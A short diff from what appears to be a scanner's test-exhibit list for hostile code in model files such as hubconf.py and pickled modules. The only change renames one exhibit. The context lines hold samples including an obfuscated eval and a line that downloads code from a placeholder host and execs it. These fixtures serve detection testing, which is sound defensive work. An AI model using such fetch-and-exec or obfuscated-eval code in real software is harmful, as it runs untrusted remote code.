@@ -111,7 +111,7 @@ EXHIBITS: tuple[Exhibit, ...] = (
     _hidden("builtin_in_pieces", "globals()['__builtins__']['ev' + 'al']('1')"),
     _hidden("fetched_text", "import urllib.request", "exec(urllib.request.urlopen('http://inert.invalid/').read())"),
     # -- TOR-21, PKL-36, PKL-37, GAD-15 -------------------------------------------------------------------------------
-    _row("TOR-21", "hubconf", source, name="hubconf.py", twin_name="modeling.py"),
+    _row("TOR-21", "hubconf_source", source, name="hubconf.py", twin_name="modeling.py"),
     _row("TOR-21", "hubconf_that_runs_something", partial(source, *_OUT_OF_FUNCTION), name="hubconf.py", twin_name="modeling.py"),
     _row("PKL-36", "module_whose_import_is_the_payload", partial(source, *_OUT_OF_FUNCTION, honest=""), name="inert_absent_pkg.py", twin=source),
     _row("PKL-37", "module_called_like_a_package", source, name="numpy.py", twin_name="modeling.py", word=Word.DENY, departs=_IMPORTED),
